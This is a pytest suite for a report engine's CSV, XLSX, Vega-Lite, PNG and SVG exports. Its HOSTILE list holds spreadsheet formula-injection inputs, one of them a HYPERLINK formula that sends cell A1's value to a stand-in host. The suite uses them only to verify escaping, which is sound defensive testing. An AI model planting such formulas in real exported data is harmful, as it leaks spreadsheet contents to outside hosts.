"""One result in every output format: CSV (BOM, exact decimals, formula escaping), XLSX (text
stays text, exact money, more sheets past the row limit), Vega-Lite, PNG and SVG."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest

from engine.errors import DefinitionInvalid
from engine.reports import run_report
from engine.reports.exports import (
    FORMATS,
    UnknownFormat,
    csv_cell,
    export_result,
    is_formula_like,
    to_csv,
    to_xlsx,
)

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1",
           '=HYPERLINK("http://x.example/?q="&A1,"click")']
PLAIN = ["Acme Ltd", "浙江", "1-2", "a=b", " =1", "", "'quoted"]


def result(rows, columns=None):
    columns = columns or [{"name": "name", "type": "string"}, {"name": "amount", "type": "decimal"}]
    return {"columns": columns, "rows": rows,
            "meta": {"report": "r", "version": 1, "form": "f", "row_count": len(rows), "truncated": False}}


# -- CSV -------------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_crlf_and_exact_decimals():
    data = to_csv(result([["浙江", Decimal("12345678901234567890.12")], ["b", Decimal("1E+3")],
                          ["c", Decimal("-0.10")], [None, None]]))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.split("\r\n") == ["name,amount", "浙江,12345678901234567890.12", "b,1000", "c,-0.10", ",", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_prefixes_formula_like_text_with_a_quote(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text
    parsed = list(csv.reader(io.StringIO(to_csv(result([[text, Decimal("1")]])).decode("utf-8-sig"))))
    assert parsed[1][0] == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_csv_leaves_other_text_alone(text):
    assert csv_cell(text) == text


def test_csv_never_touches_numbers():
    assert csv_cell(-5) == "-5"
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(-0.25) == "-0.25"
    assert csv_cell(True) == "true"


# -- XLSX ------------------------------------------------------------------------------------------


def sheets(data: bytes) -> dict[str, list[list[tuple[str | None, str | None, str | None]]]]:
    """Sheet name -> rows of (cell type, value text, style index), shared strings resolved."""
    book = zipfile.ZipFile(io.BytesIO(data))
    strings = [
        "".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
        for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("m:si", NS)
    ] if "xl/sharedStrings.xml" in book.namelist() else []
    workbook = ElementTree.fromstring(book.read("xl/workbook.xml"))
    names = [sheet.get("name") for sheet in workbook.find("m:sheets", NS)]
    found = {}
    for index, name in enumerate(names, start=1):
        xml = book.read(f"xl/worksheets/sheet{index}.xml")
        assert b"<f>" not in xml and b"<f " not in xml, "no formula may be written"
        rows = []
        for row in ElementTree.fromstring(xml).find("m:sheetData", NS):
            cells = []
            for cell in row:
                kind, value = cell.get("t"), cell.find("m:v", NS)
                text = value.text if value is not None else None
                if kind == "s" and text is not None:
                    text = strings[int(text)]
                cells.append((kind, text, cell.get("s")))
            rows.append(cells)
        found[name] = rows
    return found


def quote_prefixed_styles(data: bytes) -> set[str]:
    styles = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml"))
    xfs = styles.find("m:cellXfs", NS)
    return {str(index) for index, xf in enumerate(xfs) if xf.get("quotePrefix") == "1"}


def test_xlsx_writes_formula_like_text_as_quoted_text():
    data = to_xlsx(result([[text, Decimal("1")] for text in HOSTILE + PLAIN[:4]]))
    rows = sheets(data)["report"]
    quoted = quote_prefixed_styles(data)
    assert rows[0] == [("s", "name", rows[0][0][2]), ("s", "amount", rows[0][1][2])]
    for text, row in zip(HOSTILE, rows[1:]):
        kind, value, style = row[0]
        assert kind == "s"  # a shared string, never a formula
        assert value in (text, text.replace("\r", "_x000D_"))  # xlsxwriter escapes a CR as _x000D_
        assert style in quoted
    for text, row in zip(PLAIN[:4], rows[1 + len(HOSTILE):]):
        assert row[0][:2] == ("s", text)
        assert row[0][2] not in quoted


def test_xlsx_numbers_keep_their_value_and_long_money_stays_exact_text():
    columns = [{"name": "amount", "type": "decimal"}, {"name": "count", "type": "integer"},
               {"name": "on", "type": "date"}, {"name": "at", "type": "datetime"}, {"name": "ok", "type": "boolean"}]
    data = to_xlsx(result([
        [Decimal("98765432109876.5"), 12, "2024-03-01", "2024-03-01T01:30:00+08:00", True],  # 15 digits: a number
        [Decimal("98765432109876.54"), 123456789012345678, None, None, False],  # 16 and 18 digits: text
        [Decimal("-0.10"), -5, None, None, None],
    ], columns))
    rows = sheets(data)["report"]
    assert rows[1][0][:2] == (None, "98765432109876.5")
    assert rows[1][1][:2] == (None, "12")
    assert rows[1][2][:2] == (None, "45352")  # an Excel date serial for 2024-03-01
    assert rows[1][3][:2] == ("s", "2024-03-01T01:30:00+08:00")
    assert rows[1][4][:2] == ("b", "1")
    assert rows[2][0][:2] == ("s", "98765432109876.54")
    assert rows[2][1][:2] == ("s", "123456789012345678")
    assert rows[3][0][:2] == (None, "-0.1")
    assert rows[3][1][:2] == (None, "-5")
    styles = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml"))
    formats = {f.get("formatCode") for f in styles.find("m:numFmts", NS)}
    assert {"#,##0.0", "#,##0.00", "#,##0", "yyyy-mm-dd"} <= formats


def test_xlsx_continues_on_further_sheets_at_the_row_limit():
    rows = [[f"row {n}", Decimal(n)] for n in range(5)]
    data = to_xlsx(result(rows), sheet_name="by_region", sheet_rows=3)  # header + 2 rows a sheet
    found = sheets(data)
    assert list(found) == ["by_region", "by_region (2)", "by_region (3)"]
    values = []
    for name, sheet_rows in found.items():
        assert [cell[1] for cell in sheet_rows[0]] == ["name", "amount"]
        assert len(sheet_rows) <= 3
        values += [row[0][1] for row in sheet_rows[1:]]
    assert values == [f"row {n}" for n in range(5)]  # every row, in order, none lost


def test_xlsx_of_an_empty_result_has_the_header():
    assert [cell[1] for cell in sheets(to_xlsx(result([])))["report"][0]] == ["name", "amount"]


def test_sheet_names_are_made_legal():
    found = sheets(to_xlsx(result([["a", 1]]), sheet_name="a/b:c*d?" + "x" * 40))
    (name,) = found
    assert len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name)


# -- formats ---------------------------------------------------------------------------------------


def test_an_unknown_format_is_refused():
    with pytest.raises(UnknownFormat) as caught:
        export_result(None, result([]), "pdf")
    assert caught.value.code == "report.unknown_format"
    assert caught.value.status == 400
    assert caught.value.path == "format"
    assert "json" in caught.value.issues[0].message("en")
    assert "未知格式" in caught.value.issues[0].message("zh-CN")


# -- charts ----------------------------------------------------------------------------------------


def walk(node):
    if isinstance(node, dict):
        for key, value in node.items():
            yield key, value
            yield from walk(value)
    elif isinstance(node, list):
        for item in node:
            yield from walk(item)


def sales_report(forms, writer, report, **parts):
    form = forms.add("sale", [("region", "string"), ("product", "string"), ("amount", "decimal", 2),
                              ("sold_on", "date")])
    writer.add("sale", {"region": "浙江", "product": "贷款", "amount": "100.10", "sold_on": "2024-01-05"})
    writer.add("sale", {"region": "江苏", "product": "存款", "amount": "250.25", "sold_on": "2024-02-05"})
    parts.setdefault("dimensions", [{"name": "region", "field": "region"}, {"name": "product", "field": "product"}])
    parts.setdefault("measures", [{"name": "total", "agg": "sum", "field": "amount"}, {"name": "n", "agg": "count"}])
    parts.setdefault("title", {"zh-CN": "分地区销售额", "en": "Sales by region"})
    return report(form, **parts)


def test_default_chart_first_dimension_on_x_first_measure_on_y(forms, writer, mirror, report):
    spec = sales_report(forms, writer, report)
    vl = export_result(spec, run_report(mirror, spec), "vega", "zh-CN")
    assert vl.media_type == "application/vnd.vegalite.v5+json"
    from engine.jsoncodec import loads

    chart = loads(vl.content)
    assert chart["title"] == "分地区销售额"
    assert chart["mark"]["type"] == "bar"
    assert chart["encoding"]["x"]["field"] == "region"
    assert chart["encoding"]["y"] == {"field": "total", "title": "total", "type": "quantitative"}
    assert chart["encoding"]["color"]["field"] == "product"
    assert chart["data"]["values"] == [{"region": "江苏", "product": "存款", "total": Decimal("250.25"), "n": 1},
                                       {"region": "浙江", "product": "贷款", "total": Decimal("100.10"), "n": 1}]
    assert b'"total":250.25' in vl.content  # exact digits in the JSON
    assert chart["config"]["locale"]["number"]["currency"] == ["¥", ""]
    assert not [key for key, _ in walk(chart) if key == "url"]  # nothing to fetch


def test_chart_section_and_titles_in_the_request_language(forms, writer, mirror, report):
    spec = sales_report(forms, writer, report, dimensions=[{"name": "month", "field": "sold_on", "bucket": "month"}],
                        chart={"mark": "line", "x": {"member": "month", "title": {"zh-CN": "月份", "en": "Month"}},
                               "y": "n", "title": {"zh-CN": "月度笔数", "en": "Sales per month"}})
    result_ = run_report(mirror, spec)
    from engine.reports.charts import vega_lite

    zh, en = vega_lite(spec, result_, "zh-CN"), vega_lite(spec, result_, "en")
    assert (zh["title"], en["title"]) == ("月度笔数", "Sales per month")
    assert (zh["encoding"]["x"]["title"], en["encoding"]["x"]["title"]) == ("月份", "Month")
    assert zh["encoding"]["x"]["type"] == "temporal" and zh["encoding"]["x"]["timeUnit"] == "utcyearmonth"
    assert zh["encoding"]["y"]["field"] == "n"
    assert "color" not in zh["encoding"]
    assert zh["mark"]["type"] == "line"


def test_pie_chart_uses_theta_and_color(forms, writer, mirror, report):
    spec = sales_report(forms, writer, report, chart={"mark": "arc", "x": "region", "y": "total"})
    from engine.reports.charts import vega_lite

    chart = vega_lite(spec, run_report(mirror, spec), "en")
    assert chart["encoding"]["theta"]["field"] == "total"
    assert chart["encoding"]["color"]["field"] == "region"


def test_chart_names_are_checked_at_compile_time(forms, writer, report):
    with pytest.raises(DefinitionInvalid) as caught:
        sales_report(forms, writer, report, chart={"x": "nowhere", "y": {"member": "missing"}})
    issues = {(issue.path, issue.code) for issue in caught.value.issues}
    assert issues == {("/chart/x", "definition.unknown_member"), ("/chart/y/member", "definition.unknown_member")}


def test_a_pie_needs_a_measure(forms, writer, report):
    with pytest.raises(DefinitionInvalid) as caught:
        sales_report(forms, writer, report, chart={"mark": "arc", "y": "region"})
    assert [(i.path, i.code) for i in caught.value.issues] == [("/chart/y", "definition.bad_chart_channel")]


def test_form_field_titles_name_the_axes(forms, writer, mirror, report):
    import dataclasses

    spec = sales_report(forms, writer, report)
    form = dataclasses.replace(forms.latest("sale"), schema={"type": "object", "properties": {
        "region": {"type": "string", "x-title": {"zh-CN": "地区", "en": "Region"}}}})
    from engine.reports.compiler import compile_report
    from engine.reports.charts import vega_lite

    spec = compile_report({"kind": "report", "key": "k", "title": "t", "source": {"form": "sale"},
                           "dimensions": [{"name": "region", "field": "region"}],
                           "measures": [{"name": "n", "agg": "count"}]}, form, 1)
    assert vega_lite(spec, run_report(mirror, spec), "zh-CN")["encoding"]["x"]["title"] == "地区"


# -- PNG / SVG -------------------------------------------------------------------------------------


def title_png(title: str) -> bytes:
    from engine.reports.charts import render_png

    return render_png({"title": title, "width": 120, "height": 60, "data": {"values": [{"a": "x", "b": 1}]},
                       "mark": "bar", "encoding": {"x": {"field": "a", "type": "nominal"},
                                                   "y": {"field": "b", "type": "quantitative"}}}, scale=1)


def test_chinese_renders_as_glyphs_not_tofu():
    """Without a CJK font every Chinese character renders like any other missing glyph: the PNG
    of "客户" is then byte-identical to the PNG of two private-use characters (which no font has),
    and "客户" looks like "客客"."""
    chinese, missing, other = title_png("客户"), title_png("\ue000\ue000"), title_png("客客")
    assert chinese.startswith(b"\x89PNG\r\n\x1a\n")
    assert chinese != missing
    assert chinese != other


def test_png_and_svg_of_a_report(forms, writer, mirror, report):
    spec = sales_report(forms, writer, report)
    result_ = run_report(mirror, spec)
    png = export_result(spec, result_, "png", "zh-CN")
    assert (png.media_type, png.filename) == ("image/png", "test_report.png")
    assert png.content.startswith(b"\x89PNG")
    svg = export_result(spec, result_, "svg", "zh-CN")
    assert svg.media_type == "image/svg+xml"
    root = ElementTree.fromstring(svg.content)
    texts = ["".join(node.itertext()) for node in root.iter("{http://www.w3.org/2000/svg}text")]
    assert "分地区销售额" in texts and "浙江" in texts
    assert b"Noto Sans CJK SC" in svg.content
    assert b"http://" not in svg.content.replace(b"http://www.w3.org", b"")
    assert b"https://" not in svg.content


def test_every_format_has_a_media_type(forms, writer, mirror, report):
    spec = sales_report(forms, writer, report)
    result_ = run_report(mirror, spec)
    for name in FORMATS:
        export = export_result(spec, result_, name.upper(), "en")
        assert export.format == name and export.content
